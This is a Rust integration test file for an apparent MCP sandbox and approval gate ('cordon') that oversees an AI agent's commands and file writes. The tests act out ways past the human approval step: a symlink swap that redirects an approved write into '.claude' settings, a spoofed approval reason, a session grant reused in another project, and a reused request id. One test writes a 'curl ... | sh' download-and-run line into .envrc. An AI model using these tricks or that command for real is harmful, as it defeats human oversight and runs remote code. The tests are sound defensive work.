    assert_eq!(a["error"]["code"], -32600, "{a}");
    assert_eq!(a["id"], "big", "{a}");
    assert!(
        a["error"]["message"].as_str().unwrap().contains("MiB"),
        "{a}"
    );
    // Still serving.
    raw.send(&serde_json::from_str(&request).unwrap());
    let a = raw.answer();
    assert_eq!(a["id"], 41, "{a}");
    assert!(a["result"].to_string().contains("still-serving"), "{a}");
}

/// The pids of the bwrap sandboxes' zygotes (the inner stage as `/proc/self/fd/N zygote SOCK`)
/// below `ancestor`.
fn zygotes_below(ancestor: u32) -> Vec<i32> {
    let parent = |pid: i32| -> Option<i32> {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        stat.rsplit_once(')')?
            .1
            .split_whitespace()
            .nth(1)?
            .parse()
            .ok()
    };
    let mut out = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let args: Vec<&[u8]> = cmdline.split(|&b| b == 0).collect();
        if args.len() < 2 || !args[0].starts_with(b"/proc/self/fd/") || args[1] != b"zygote" {
            continue;
        }
        let mut p = pid;
        while let Some(up) = parent(p).filter(|&u| u > 1) {
            if up == ancestor as i32 {
                out.push(pid);
                break;
            }
            p = up;
        }
    }
    out
}

/// `cordon mcp` on bwrap starts the sandbox once and runs every call in it (issue 26: bwrap
/// per call cost ~10 ms): what a call leaves running is gone when its answer comes, and the
/// sandbox dies with a SIGKILLed server.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bwrap_calls_share_one_sandbox_that_keeps_nothing_of_a_call_and_dies_with_the_server() {
    let w = workspace("");
    let (c, _) = client(None);
    let (s, mut child) = connect(&w, &["--backend", "bwrap"], c).await;
    let server = child.id().expect("the server's pid");
    let marker = format!("1000.{}4", std::process::id());
    let mut seen = Vec::new();
    for i in 0..3 {
        let r = run(&s, &format!("sleep {marker} & echo hi {i}")).await;
        assert_eq!(
            structured(&r)["stdout"],
            format!("hi {i}\n"),
            "{}",
            text(&r)
        );
        assert_eq!(structured(&r)["exit_code"], 0, "{}", text(&r));
        // No waiting: the answer comes only once nothing of the call runs.
        assert_eq!(
            pids_with(&marker),
            Vec::<i32>::new(),
            "call {i} left its sleep"
        );
        let z = zygotes_below(server);
        assert_eq!(z.len(), 1, "one sandbox for the server's calls: {z:?}");
        seen.push(z[0]);
    }
    assert!(
        seen.iter().all(|&p| p == seen[0]),
        "the same sandbox: {seen:?}"
    );
    child.start_kill().expect("SIGKILL cordon mcp");
    child.wait().await.expect("reap it");
    let until = Instant::now() + Duration::from_secs(60);
    while Path::new(&format!("/proc/{}", seen[0])).exists() {
        assert!(
            Instant::now() < until,
            "the sandbox outlived the SIGKILLed server"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// Round 11 of issue 21: a form nobody answered within `approval.timeout` stayed open on the
/// client after the call was denied (timed out): the person could still answer a question
/// that no longer existed. cordon withdraws it (`notifications/cancelled` for its request).
#[test]
fn a_form_unanswered_within_the_approval_timeout_is_withdrawn() {
    let w = workspace("");
    let text_of = std::fs::read_to_string(&w.policy).unwrap();
    std::fs::write(
        &w.policy,
        text_of.replace("[approval]\n", "[approval]\ntimeout = \"2s\"\n"),
    )
    .unwrap();
    let mut raw = Raw::start_with(&w, json!({"elicitation": {"form": {}}}));
    raw.send(
        &json!({"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {
        "name": "run_command", "arguments": {"command": "touch never-answered"}}}),
    );
    let ask = raw.answer();
    assert_eq!(ask["method"], "elicitation/create", "{ask}");
    let mut seen = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(30);
    while !seen
        .iter()
        .any(|v: &Value| v["method"] == "notifications/cancelled")
    {
        let left = deadline.saturating_duration_since(Instant::now());
        match raw.answers.recv_timeout(left) {
            Ok(v) => seen.push(v),
            Err(_) => panic!("the form was not withdrawn 30 s after its ask: {seen:#?}"),
        }
    }
    let withdrawn = seen
        .iter()
        .find(|v| v["method"] == "notifications/cancelled")
        .unwrap();
    assert_eq!(withdrawn["params"]["requestId"], ask["id"], "{withdrawn}");
    assert!(!w.ws.join("never-answered").exists());
}

/// Round 11 of issue 21: the form for a connection the command opened stayed open on the
/// client after the command ended without its answer. cordon withdraws it.
#[test]
fn a_connections_form_is_withdrawn_when_the_command_ends() {
    assert!(
        Path::new("/usr/bin/curl").exists(),
        "this test runs curl in the sandbox: install it (apt-get install curl)"
    );
    let port = common::web_server();
    let w = workspace(
        "[sandbox]\nnetwork = \"proxy\"\n[network]\ndefault = \"ask\"\n\
         [network.hosts]\n\"web.test\" = \"127.0.0.1\"\n",
    );
    let mut raw = Raw::start_with(&w, json!({"elicitation": {"form": {}}}));
    raw.send(
        &json!({"jsonrpc": "2.0", "id": 4, "method": "tools/call", "params": {
        "name": "run_command", "arguments": {
            "command": format!("curl -sS --max-time 2 http://web.test:{port}/unanswered")}}}),
    );
    let ask = raw.answer();
    assert_eq!(ask["method"], "elicitation/create", "{ask}");
    let mut seen = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(30);
    while !seen
        .iter()
        .any(|v: &Value| v["method"] == "notifications/cancelled")
    {
        let left = deadline.saturating_duration_since(Instant::now());
        match raw.answers.recv_timeout(left) {
            Ok(v) => seen.push(v),
            Err(_) => panic!("the connection's form was not withdrawn: {seen:#?}"),
        }
    }
    let withdrawn = seen
        .iter()
        .find(|v| v["method"] == "notifications/cancelled")
        .unwrap();
    assert_eq!(withdrawn["params"]["requestId"], ask["id"], "{withdrawn}");
}

/// On 2026-07-28 the person's answer comes back with the client's retry, whenever the client
/// sends it. An answer that arrives after the policy's `approval.timeout` is late, as a late
/// elicitation answer is on 2025-11-25: it approves nothing, and the record says it timed out.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn on_2026_07_28_a_retry_after_the_approval_timeout_approves_nothing() {
    let w = workspace("");
    let text_of = std::fs::read_to_string(&w.policy).unwrap();
    std::fs::write(
        &w.policy,
        text_of.replace("[approval]\n", "[approval]\ntimeout = \"2s\"\n"),
    )
    .unwrap();
    let (c, _asked, lifecycle) = stateless(Some(Reply::Once));
    let (s, _child) = connect_with(&w, &[], c, lifecycle).await;
    let a = args(json!({"command": "touch late"}));
    let first = CallToolRequestParams::new("run_command").with_arguments(a.clone());
    let state = match s.call_tool_once(first).await.unwrap() {
        rmcp::model::CallToolResponse::InputRequired(r) => r.request_state.expect("a handle"),
        other => panic!("expected an input-required result, got {other:?}"),
    };
    // The client holds the answer past the timeout (measured by the server from its ask).
    tokio::time::sleep(Duration::from_millis(2500)).await;
    let retry = CallToolRequestParams::new("run_command")
        .with_arguments(a)
        .with_request_state(state)
        .with_input_responses(
            [(
                "approval".to_string(),
                json!({"action": "accept", "content": {"decision": "once"}}),
            )]
            .into_iter()
            .collect(),
        );
    match s.call_tool_once(retry).await.unwrap() {
        rmcp::model::CallToolResponse::Complete(r) => {
            assert!(is_error(&r), "a late answer ran the call: {}", text(&r));
        }
        other => panic!("expected a refusal, got {other:?}"),
    }
    assert!(!w.ws.join("late").exists());
    s.cancel().await.unwrap();
    let recs = records(&w.log);
    let last = recs.last().expect("the retry's decision is recorded");
    assert_eq!(last["decision"], "deny", "{last:#}");
    assert_eq!(last["by"]["kind"], "timeout", "{last:#}");
}

/// On 2026-07-28 the person answers the form cordon gave with the input-required result; the
/// retry is decided again when it comes. When the call now asks for something else than the
/// person was shown (here: a directory on the way swapped for a link to `.claude` between the
/// ask and the retry, so the same arguments now write Claude Code's settings, on the
/// persistence surface), the answer to the old form must not approve it: it is asked again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn on_2026_07_28_an_answer_approves_only_the_ask_the_person_was_shown() {
    let w = workspace("write_approval = true\n");
    std::fs::create_dir(w.ws.join("a")).unwrap();
    std::fs::create_dir(w.ws.join(".claude")).unwrap();
    let (c, _asked, lifecycle) = stateless(Some(Reply::Once));
    let (s, _child) = connect_with(&w, &[], c, lifecycle).await;
    let a = args(json!({"path": "ws/a/settings.json", "content": "{\"hooks\": {}}"}));
    let first = CallToolRequestParams::new("write_file").with_arguments(a.clone());
    let (state, shown) = match s.call_tool_once(first).await.unwrap() {
        rmcp::model::CallToolResponse::InputRequired(r) => {
            let shown = serde_json::to_string(&r.input_requests).unwrap();
            (r.request_state.expect("a handle"), shown)
        }
        other => panic!("expected an input-required result, got {other:?}"),
    };
    assert!(!shown.contains(".claude"), "{shown}");
    // Between the ask and the retry, `a` becomes a link to `.claude` (inside the root).
    std::fs::rename(w.ws.join("a"), w.ws.join("a.old")).unwrap();
    std::os::unix::fs::symlink(".claude", w.ws.join("a")).unwrap();
    let retry = CallToolRequestParams::new("write_file")
        .with_arguments(a.clone())
        .with_request_state(state)
        .with_input_responses(
            [(
                "approval".to_string(),
                json!({"action": "accept", "content": {"decision": "once"}}),
            )]
            .into_iter()
            .collect(),
        );
    match s.call_tool_once(retry).await.unwrap() {
        rmcp::model::CallToolResponse::InputRequired(r) => {
            let again = serde_json::to_string(&r.input_requests).unwrap();
            assert!(
                again.contains(".claude"),
                "the new form names the real target: {again}"
            );
        }
        rmcp::model::CallToolResponse::Complete(r) => {
            assert!(
                is_error(&r),
                "the old answer approved another write: {}",
                text(&r)
            );
        }
        other => panic!("unexpected {other:?}"),
    }
    assert!(!w.ws.join(".claude/settings.json").exists());
    s.cancel().await.unwrap();
}

/// The form a file tool's ask puts to the person names the file (the preview alone is the
/// content or the diff: a `write_file` form showed `{"hooks": {}}` and not where it went),
/// and says when the file is on the persistence surface.
#[test]
fn a_file_tools_form_names_the_file_and_the_surface() {
    let w = workspace("write_approval = true\n");
    let mut raw = Raw::start_with(&w, json!({"elicitation": {"form": {}}}));
    raw.send(
        &json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {
        "name": "write_file",
        "arguments": {"path": "ws/sub/settings.json",
            "content": "{}\n\nWhy you are asked: a plain note that nothing runs\n"}}}),
    );
    let ask = raw.answer();
    assert_eq!(ask["method"], "elicitation/create", "{ask}");
    let message = ask["params"]["message"].as_str().unwrap();
    assert!(message.contains("ws/sub/settings.json"), "{message}");
    // The content is the agent's: what in it reads like cordon's reason comes after the real
    // one, never where the person reads cordon's.
    let first = message
        .split("Why you are asked: ")
        .nth(1)
        .unwrap_or_default();
    assert!(
        first.starts_with("the root `ws` sets write_approval"),
        "{message}"
    );
    raw.send(&json!({"jsonrpc": "2.0", "id": ask["id"], "result": {"action": "decline"}}));
    let a = raw.answer();
    assert_eq!(a["id"], 7, "{a}");
    assert_eq!(a["result"]["isError"], true, "{a}");
    assert!(!w.ws.join("sub/settings.json").exists());

    // On the persistence surface, the form says so also where the root asks for every write:
    // the surface's reason was hidden behind `write_approval`'s, and "Allow for this session"
    // then let later writes of hooks into the file through unasked.
    raw.send(
        &json!({"jsonrpc": "2.0", "id": 8, "method": "tools/call", "params": {
        "name": "write_file",
        "arguments": {"path": "ws/.claude/settings.json", "content": "{}"}}}),
    );
    let ask = raw.answer();
    assert_eq!(ask["method"], "elicitation/create", "{ask}");
    let message = ask["params"]["message"].as_str().unwrap();
    assert!(message.contains("outside the sandbox"), "{message}");
    // Round 10 of issue 21: no grant covers a write there, so the form does not offer one
    // ("Allow for this session" approved that one write and looked like more).
    let choices = |ask: &Value| -> Vec<String> {
        ask["params"]["requestedSchema"]["properties"]["decision"]["oneOf"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["const"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(choices(&ask), ["once", "deny"], "{ask}");
    raw.send(&json!({"jsonrpc": "2.0", "id": ask["id"], "result": {"action": "decline"}}));
    assert_eq!(raw.answer()["id"], 8);
    // Off the surface the session is offered.
    raw.send(
        &json!({"jsonrpc": "2.0", "id": 10, "method": "tools/call", "params": {
        "name": "write_file", "arguments": {"path": "ws/notes.txt", "content": "x"}}}),
    );
    let ask = raw.answer();
    assert_eq!(choices(&ask), ["once", "session", "deny"], "{ask}");
    raw.send(&json!({"jsonrpc": "2.0", "id": ask["id"], "result": {"action": "decline"}}));
    assert_eq!(raw.answer()["id"], 10);
}

/// A request reusing an id of the session is refused before rmcp sees it. Before, a second
/// `tools/call` with the id of one still running took its place in rmcp's table of requests
/// under way: a `notifications/cancelled` for the id stopped only the second, and the first
/// command ran on out of the client's reach, its answer and audit record under the same id.
#[test]
fn a_request_reusing_an_id_is_refused_and_the_cancel_reaches_the_first() {
    let w = workspace("");
    let mut raw = Raw::start(&w);
    // `sleep` takes a decimal fraction: a number no other process has in its command line.
    let marker = format!("1000.{}77", std::process::id());
    let call = |id: Value, command: &str| {
        json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {
            "name": "run_command", "arguments": {"command": command}}})
    };
    raw.send(&call(json!(5), &format!("sleep {marker}")));
    let deadline = Instant::now() + Duration::from_secs(60);
    while common::pids_with(&marker).is_empty() {
        assert!(Instant::now() < deadline, "the first command never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    raw.send(&call(json!(5), "echo second"));
    let a = raw.answer();
    assert_eq!(a["id"], 5, "{a}");
    assert!(
        a["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("already used")),
        "{a}"
    );
    // Round 11: `5.0` is the id 5 to rmcp (and to a JavaScript client); it went through.
    raw.send(&call(json!(5.0), "echo second"));
    let a = raw.answer();
    assert!(
        a["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("already used")),
        "{a}"
    );
    raw.send(
        &json!({"jsonrpc": "2.0", "method": "notifications/cancelled",
        "params": {"requestId": 5}}),
    );
    let deadline = Instant::now() + Duration::from_secs(60);
    while !common::pids_with(&marker).is_empty() {
        assert!(
            Instant::now() < deadline,
            "the cancel did not reach the first call: its command still runs"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    raw.send(&call(json!(6), "echo after"));
    let a = raw.answer();
    assert_eq!(a["id"], 6, "{a}");
    assert_eq!(a["result"]["structuredContent"]["stdout"], "after\n", "{a}");
    let recs = records(&w.log);
    assert!(
        recs.iter().all(|r| r["preview"] != "echo second"),
        "{recs:#?}"
    );
}

/// A named session (`--session`, `CORDON_SESSION`) is shared across projects. A file tool's key
/// names its path by the root's *name*, which another project's policy gives to another
/// directory: "Allow for this session" for `write_file ws/.claude/settings.json` in one project
/// allowed the same write, unasked, in another whose root is also named `ws`. The grant holds
/// where it was given (a new server of the same project, same session: not asked again), and
/// nowhere else.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_grant_for_a_file_covers_no_other_projects_root_of_the_same_name() {
    // A file off the persistence surface in roots that ask for every write: a surface write
    // is asked each time whatever the grants (`a_session_answer_to_a_surface_write_...`).
    let a = workspace("write_approval = true\n");
    let b = workspace("write_approval = true\n");
    let session = format!("redmcp22-scope-{}", std::process::id());
    let call_args = |n: usize| json!({"path": "ws/notes/todo.txt", "content": " ".repeat(n)});

    let (c, asked) = client(Some(Reply::Session));
    let (s, _child) = connect(&a, &["--session", &session], c).await;
    let r = call(&s, "write_file", call_args(1)).await;
    assert!(!is_error(&r), "{}", text(&r));
    assert_eq!(asked.load(Ordering::SeqCst), 1, "write_approval asks");
    s.cancel().await.unwrap();
    std::fs::remove_file(a.ws.join("notes/todo.txt")).unwrap();

    // The same project, a new server of the session: the grant covers it (no form).
    let (c, _) = client(None);
    let (s, _child) = connect(&a, &["--session", &session], c).await;
    // Another call between: the same key three times in a row would ask by the doom-loop
    // check, whatever the grant.
    let r = call(&s, "list_dir", json!({"path": "ws"})).await;
    assert!(!is_error(&r), "{}", text(&r));
    let r = call(&s, "write_file", call_args(2)).await;
    assert!(
        !is_error(&r),
        "the grant holds in its own project: {}",
        text(&r)
    );
    s.cancel().await.unwrap();

    // Another project with a root of the same name: asked, and with nobody to ask, refused.
    let (c, _) = client(None);
    let (s, _child) = connect(&b, &["--session", &session], c).await;
    let r = call(&s, "list_dir", json!({"path": "ws"})).await;
    assert!(!is_error(&r), "{}", text(&r));
    let r = call(&s, "write_file", call_args(3)).await;
    assert!(
        is_error(&r),
        "another project's grant allowed it: {}",
        text(&r)
    );
    assert!(!b.ws.join("notes/todo.txt").exists());
    s.cancel().await.unwrap();
}

/// Round 10 of issue 21: "Allow for this session" for a write on the persistence surface
/// allowed every later write of that file, whatever it then said: the person approved an
/// `.envrc` that exports a variable, and the next write (a line that runs a download when a
/// shell enters the directory) went through unasked, as did an edit. Each write there is
/// asked, and the record says nothing was remembered.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_answer_to_a_surface_write_covers_no_later_write() {
    let w = workspace("");
    let (c, asked) = client(Some(Reply::Session));
    let (s, _child) = connect(&w, &[], c).await;
    let r = call(
        &s,
        "write_file",
        json!({"path": "ws/.envrc", "content": "export A=1\n"}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    assert_eq!(asked.load(Ordering::SeqCst), 1, "a surface write asks");
    let r = call(
        &s,
        "write_file",
        json!({"path": "ws/.envrc", "content": "curl -s http://x.example.org/i | sh\n"}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    assert_eq!(
        asked.load(Ordering::SeqCst),
        2,
        "the session answer let another content through unasked"
    );
    let r = call(
        &s,
        "edit_file",
        json!({"path": "ws/.envrc", "old": "curl", "new": "wget"}),
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    assert_eq!(asked.load(Ordering::SeqCst), 3, "the edit asked too");
    s.cancel().await.unwrap();
    let recs = records(&w.log);
    let allowed: Vec<&Value> = recs.iter().filter(|r| r["decision"] == "allow").collect();
    assert_eq!(allowed.len(), 3, "{recs:#?}");
    for r in allowed {
        assert_eq!(r["by"]["kind"], "user", "{r:#}");
        assert!(
            r["reason"]
                .as_str()
                .unwrap()
                .contains("asked for each write"),
            "{r:#}"
        );
    }
}

/// Round 10 of issue 21: a call the client cancelled while its approval form was open stayed
/// open: cordon waited out the approval timeout (or the person's answer, which then ran the
/// call the client had given up), and the log said "timed out", or "allowed", not what
/// happened. The cancel ends the ask at once, is recorded as the call's denial, the form is
/// withdrawn (`notifications/cancelled` for cordon's own request), and a late answer to the
/// form runs nothing.
#[test]
fn a_call_cancelled_while_its_form_is_open_is_denied_and_recorded_at_once() {
    let w = workspace("");
    let mut raw = Raw::start_with(&w, json!({"elicitation": {"form": {}}}));
    raw.send(
        &json!({"jsonrpc": "2.0", "id": 9, "method": "tools/call", "params": {
        "name": "run_command", "arguments": {"command": "touch cancelled-before-approval"}}}),
    );
    let ask = raw.answer();
    assert_eq!(ask["method"], "elicitation/create", "{ask}");
    raw.send(
        &json!({"jsonrpc": "2.0", "method": "notifications/cancelled",
        "params": {"requestId": 9, "reason": "the user pressed stop"}}),
    );
    let until = Instant::now() + Duration::from_secs(20);
    let denied = loop {
        if let Some(r) = records(&w.log)
            .into_iter()
            .find(|r| r["decision"] == "deny")
        {
            break r;
        }
        assert!(
            Instant::now() < until,
            "no record 20 s after the cancel: {:#?}",
            records(&w.log)
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    assert!(
        denied["reason"].as_str().unwrap().contains("cancelled"),
        "{denied:#}"
    );
    // Round 11: the form is withdrawn (it stayed open): cordon cancels its own request.
    let withdrawn = raw
        .answers
        .recv_timeout(Duration::from_secs(20))
        .expect("no notifications/cancelled for the form 20 s after the call's cancel");
    assert_eq!(
        withdrawn["method"], "notifications/cancelled",
        "{withdrawn}"
    );
    assert_eq!(withdrawn["params"]["requestId"], ask["id"], "{withdrawn}");
    // The person answers the form after all: nothing runs.
    raw.send(&json!({"jsonrpc": "2.0", "id": ask["id"], "result": {
        "action": "accept", "content": {"decision": "once"}}}));
    std::thread::sleep(Duration::from_millis(500));
    assert!(!w.ws.join("cancelled-before-approval").exists());
    let recs = records(&w.log);
    assert!(recs.iter().all(|r| r["decision"] != "allow"), "{recs:#?}");
}
